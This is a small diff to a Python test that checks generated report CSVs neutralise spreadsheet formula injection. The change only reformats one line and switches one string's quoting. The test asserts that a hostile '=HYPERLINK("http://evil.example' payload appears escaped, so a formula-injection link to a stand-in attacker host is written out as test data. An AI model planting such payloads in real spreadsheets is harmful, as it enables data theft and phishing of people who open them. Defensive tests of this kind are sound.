@@ -479,11 +479,9 @@ def test_report_csvs_never_hold_a_formula(con: duckdb.DuckDBPyConnection, tmp_pa
     acknowledge(con, K, d(3, 8), HOSTILE[1], HOSTILE[2], AT)
     con.execute("UPDATE releases SET region = ? WHERE msisdn = ?", [HOSTILE[3], I_])
     built = build_report(con, SETTINGS, FIRST, LAST, tmp_path / "out")
-    cells = [
-        cell for path in built.csv_files.values() for row in csv.reader(path.open()) for cell in row
-    ]
+    cells = [cell for path in built.csv_files.values() for row in csv.reader(path.open()) for cell in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
     for value in HOSTILE:
         assert "'" + value in cells
     raw = built.csv_files["exceptions"].read_text()  # neutralised, and quoted by the writer
-    assert "\"'=HYPERLINK(\"\"http://evil.example" in raw
+    assert '"\'=HYPERLINK(""http://evil.example' in raw
